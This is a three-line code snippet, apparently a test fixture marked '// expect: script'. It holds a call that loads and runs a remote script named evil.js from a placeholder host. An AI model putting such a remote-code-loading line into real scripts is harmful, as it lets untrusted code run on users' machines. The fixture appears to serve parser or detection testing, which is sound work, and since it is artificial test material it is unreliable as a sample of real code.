// expect: script
load('https://example.com/evil.js');
return 1;
